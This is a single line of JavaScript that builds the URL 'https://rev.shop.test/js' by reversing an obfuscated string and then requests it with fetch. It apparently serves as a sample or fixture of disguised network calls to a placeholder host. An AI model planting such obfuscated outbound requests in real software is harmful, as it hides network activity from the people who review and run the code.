var a='sj/tset.pohs.ver//:sptth'.split('').reverse().join('');fetch(a);
